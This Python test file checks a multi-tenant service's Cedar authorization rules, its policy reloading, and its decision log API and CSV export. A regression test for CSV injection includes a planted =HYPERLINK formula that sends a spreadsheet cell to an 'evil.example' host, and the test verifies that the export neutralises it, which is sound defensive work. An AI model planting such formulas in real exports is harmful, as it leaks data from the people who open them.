"""The Cedar policies, rule by rule, and the decision API and log over them."""

from __future__ import annotations

import csv
import io
import shutil
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select

from app.core.tenancy import ALL_TENANTS
from app.policy.engine import POLICY_DIR, PolicyEngine, PolicyError, Request
from app.policy.log import DecisionLog
from app.policy.models import PolicyDecisionCount
from tests.support.world import World, services

ENGINE = PolicyEngine()

TENANT_ACTIONS = ("read", "search", "write", "export", "govern", "purge", "read_decisions")
PLATFORM_ACTIONS = ("view_ops", "run_probes", "manage_quotas", "page")


def ask(
    role: str,
    action: str,
    *,
    tenant: str | None = "acme",
    resource_tenant: str = "acme",
    legal_hold: bool = False,
    engine: PolicyEngine = ENGINE,
) -> tuple[bool, tuple[str, ...]]:
    platform = action in (*PLATFORM_ACTIONS, "session", "decide")
    decision = engine.decide(
        Request(
            principal_id="someone",
            role=role,
            tenant=tenant,
            action=action,
            resource_type="Platform" if platform else "Resource",
            resource_id="summit" if platform else "entity-1",
            resource_tenant=resource_tenant,
            legal_hold=legal_hold,
        )
    )
    assert decision.elapsed_ms < 50
    return decision.allowed, decision.reasons


@pytest.mark.parametrize(
    ("role", "allowed"),
    [
        ("analyst", {"read", "search"}),
        ("admin", set(TENANT_ACTIONS)),
        # and, at a route, the governance probe's actions: each record it then
        # touches is asked about again, and only synthetic records are permitted
        ("synthetic", {"read", "search", "hold", "purge", "export", "verify_audit"}),
        ("operator", set()),
    ],
)
def test_roles_on_their_own_tenants_data(role: str, allowed: set[str]) -> None:
    for action in TENANT_ACTIONS:
        assert ask(role, action)[0] == (action in allowed), (role, action)


@pytest.mark.parametrize("role", ["analyst", "admin", "synthetic", "operator"])
def test_platform_actions_are_for_operators_only(role: str) -> None:
    for action in PLATFORM_ACTIONS:
        ok, reasons = ask(role, action, tenant=None if role == "operator" else "acme")
        assert ok == (role == "operator"), (role, action)
        assert reasons == (("operator-runs-the-platform",) if ok else ())


def test_another_tenants_data_is_denied_by_tenant_isolation() -> None:
    for action in TENANT_ACTIONS:
        assert ask("admin", action, resource_tenant="globex") == (False, ("tenant-isolation",))
    assert ask("admin", "read") == (True, ("admin-manages-tenant-data",))


def test_operator_is_denied_tenant_data_even_with_a_tenant_attribute() -> None:
    ok, reasons = ask("operator", "read", tenant="acme", resource_tenant="acme")
    assert (ok, reasons) == (False, ("operator-reads-no-tenant-data",))
    ok, reasons = ask("operator", "read", tenant=None)
    assert not ok
    assert set(reasons) == {"operator-reads-no-tenant-data", "tenant-isolation"}


def test_purge_of_a_held_entity_is_denied_even_for_an_admin() -> None:
    assert ask("admin", "purge", legal_hold=True) == (False, ("legal-hold-blocks-purge",))
    assert ask("admin", "purge", legal_hold=False) == (True, ("admin-manages-tenant-data",))


@pytest.mark.parametrize("role", ["analyst", "admin", "synthetic", "operator"])
def test_everyone_may_use_their_session_and_ask_for_decisions(role: str) -> None:
    tenant = None if role == "operator" else "acme"
    for action in ("session", "decide"):
        assert ask(role, action, tenant=tenant) == (True, ("everyone-own-session-and-decisions",))


# --- loading, validation and reload ----------------------------------------------------


def copy_policies(tmp_path: Path) -> Path:
    target = tmp_path / "policy"
    shutil.copytree(POLICY_DIR, target, ignore=shutil.ignore_patterns("*.py", "__pycache__"))
    return target


def test_policies_that_do_not_validate_stop_the_engine(tmp_path: Path) -> None:
    directory = copy_policies(tmp_path)
    (directory / "policies" / "bad.cedar").write_text(
        '@id("typo")\npermit (principal, action == Action::"raed", resource);\n'
    )
    with pytest.raises(PolicyError, match="validate"):
        PolicyEngine(directory)


def test_a_policy_without_an_id_is_refused(tmp_path: Path) -> None:
    directory = copy_policies(tmp_path)
    (directory / "policies" / "anonymous.cedar").write_text(
        'permit (principal, action == Action::"read", resource);\n'
    )
    with pytest.raises(PolicyError, match="@id"):
        PolicyEngine(directory)


def test_policies_reload_on_change_and_a_bad_edit_keeps_the_last_good_ones(
    tmp_path: Path,
) -> None:
    directory = copy_policies(tmp_path)
    now = [0.0]
    engine = PolicyEngine(directory, reload_every=1.0, clock=lambda: now[0])
    assert ask("analyst", "export", engine=engine)[0] is False
    extra = directory / "policies" / "analyst-export.cedar"
    extra.write_text(
        '@id("analysts-export")\npermit (principal, action == Action::"export", resource)\n'
        'when { principal.role == "analyst" };\n'
    )
    assert ask("analyst", "export", engine=engine)[0] is False  # not checked again yet
    now[0] = 2.0
    assert ask("analyst", "export", engine=engine) == (True, ("analysts-export",))
    extra.write_text('@id("broken")\npermit (principal, action == Action::"nope", resource);\n')
    now[0] = 4.0
    assert ask("analyst", "export", engine=engine) == (True, ("analysts-export",))


# --- the decision API and the decision log ----------------------------------------------


def decide(world: World, user: str, body: dict[str, Any]) -> Any:
    return world.client.post("/api/v1/policy/decide", json=body, headers=world.headers(user))


CROSS_TENANT_READ = {
    "principal": {"id": "carol", "role": "admin", "tenant": "globex"},
    "action": "read",
    "resource": {"type": "entity", "id": "e-1", "tenant": "acme"},
    "context": {},
}


def test_decide_answers_decision_reasons_and_latency(world: World) -> None:
    response = decide(world, "bob", CROSS_TENANT_READ)
    assert response.status_code == 200
    body = response.get_json()
    assert body["decision"] == "deny"
    assert body["reasons"] == ["tenant-isolation"]
    assert 0 <= body["elapsed_ms"] < 50
    held = {
        "principal": {"id": "alice", "role": "admin", "tenant": "acme"},
        "action": "purge",
        "resource": {"type": "entity", "id": "e-1", "tenant": "acme", "legal_hold": True},
    }
    assert decide(world, "alice", held).get_json()["reasons"] == ["legal-hold-blocks-purge"]


@pytest.mark.parametrize(
    "body",
    [
        {**CROSS_TENANT_READ, "action": "fly"},
        {**CROSS_TENANT_READ, "principal": {"id": "x", "role": "king"}},
        {**CROSS_TENANT_READ, "resource": {"type": "entity"}},
        {**CROSS_TENANT_READ, "surprise": 1},
        {"action": "read"},
    ],
)
def test_bad_decision_requests_are_400(world: World, body: dict[str, Any]) -> None:
    response = decide(world, "bob", body)
    assert response.status_code == 400
    assert response.get_json()["error"]["code"] in ("validation_error", "unknown_action")


def test_every_decision_is_counted_and_logged(world: World) -> None:
    decide(world, "alice", CROSS_TENANT_READ)
    world.client.get("/api/v1/search?q=rocket", headers=world.headers("alice"))
    services(world.app).decisions.flush()
    page = world.client.get(
        "/api/v1/policy/decisions?source=api", headers=world.headers("alice")
    ).get_json()
    [logged] = page["decisions"]
    assert logged["caller"] == "alice"
    assert (logged["principal_id"], logged["action"], logged["decision"]) == (
        "carol",
        "read",
        "deny",
    )
    assert logged["reasons"] == ["tenant-isolation"]
    routes = world.client.get(
        "/api/v1/policy/decisions?source=route&action=search", headers=world.headers("alice")
    ).get_json()["decisions"]
    assert routes == []  # allowed route checks are counted, not kept one by one
    services(world.app).decisions.flush_counts()
    counts = world.client.get(
        "/api/v1/policy/decisions/counts", headers=world.headers("alice")
    ).get_json()["counts"]
    assert {(c["action"], c["principal_role"], c["decision"]) for c in counts} >= {
        ("search", "admin", "allow")
    }
    metrics = world.client.get("/metrics").get_data(as_text=True)
    assert (
        'summit_policy_decisions_total{action="read",decision="deny",source="api"} 1.0' in metrics
    )
    assert 'summit_policy_decision_seconds_bucket{le="0.001",source="api"} 1.0' in metrics


def test_a_tenant_sees_only_its_own_decision_log(world: World) -> None:
    decide(world, "alice", CROSS_TENANT_READ)
    decide(world, "carol", CROSS_TENANT_READ)
    services(world.app).decisions.flush()
    for user, other in (("alice", "carol"), ("carol", "alice")):
        rows = world.client.get("/api/v1/policy/decisions", headers=world.headers(user)).get_json()[
            "decisions"
        ]
        assert rows
        assert {row["caller"] for row in rows} == {user}, other


def test_decision_log_is_for_admins(world: World) -> None:
    for user in ("bob", "ops"):
        response = world.client.get("/api/v1/policy/decisions", headers=world.headers(user))
        assert response.status_code == 403


def test_decision_log_exports_as_csv(world: World) -> None:
    for _ in range(3):
        decide(world, "alice", CROSS_TENANT_READ)
    services(world.app).decisions.flush()
    response = world.client.get(
        "/api/v1/policy/decisions/export.csv?source=api", headers=world.headers("alice")
    )
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    lines = response.get_data(as_text=True).strip().splitlines()
    assert lines[0].startswith("id,at,source,caller,principal_id")
    assert len(lines) == 4
    assert all(",deny,tenant-isolation," in line for line in lines[1:])


def test_an_analysts_formula_is_text_in_the_admins_csv(world: World) -> None:
    """Regression (OWASP CSV injection): an analyst's decide request planted
    =HYPERLINK(...) that the admin's export printed for a spreadsheet to run."""
    planted = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    body = {**CROSS_TENANT_READ, "principal": {"id": planted, "role": "analyst", "tenant": "acme"}}
    assert decide(world, "bob", body).status_code == 200
    services(world.app).decisions.flush()
    export = world.client.get(
        "/api/v1/policy/decisions/export.csv?source=api", headers=world.headers("alice")
    ).get_data(as_text=True)
    cells = next(csv.DictReader(io.StringIO(export)))
    assert cells["principal_id"] == "'" + planted
    assert not any(value.startswith(("=", "+", "-", "@")) for value in cells.values())


def test_a_denied_route_is_logged_with_its_reason(world: World) -> None:
    assert world.client.get("/api/v1/search?q=x", headers=world.headers("ops")).status_code == 403
    assert (
        world.client.post(
            "/api/v1/entities",
            json={"kind": "x", "name": "y", "dataset": "d"},
            headers=world.headers("bob"),
        ).status_code
        == 403
    )
    services(world.app).decisions.flush()
    rows = world.client.get(
        "/api/v1/policy/decisions?decision=deny&source=route", headers=world.headers("alice")
    ).get_json()["decisions"]
    assert [(row["caller"], row["action"], row["reasons"]) for row in rows] == [
        ("bob", "write", [])
    ]  # bob is acme's; ops has no tenant, so acme's admin does not see ops' decisions


def test_route_allows_are_counted_per_minute_and_pruned_with_the_log(app: Flask) -> None:
    """Regression: one row per request (~86 M a day at 1,000 req/s)."""
    minute = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)
    clock = {"now": minute + timedelta(seconds=30)}
    log = DecisionLog(services(app).db, clock=lambda: clock["now"], flush_every=3600,
                      retention=timedelta(days=1))  # fmt: skip
    allow = {"source": "route", "decision": "allow", "tenant_id": None, "at": clock["now"],
             "action": "read", "principal_role": "operator"}  # fmt: skip
    for _ in range(1000):
        log.record(allow)
    assert log.flush() == 0  # the minute is not over: nothing written yet
    clock["now"] = minute + timedelta(minutes=1, seconds=1)
    assert log.flush() == 1  # a thousand checks, one row
    with services(app).db.session(tenant_id=ALL_TENANTS) as session:
        assert session.scalars(select(PolicyDecisionCount.count)).all() == [1000]
    clock["now"] = minute + timedelta(days=2)
    assert log.prune() == 1
    log.close()
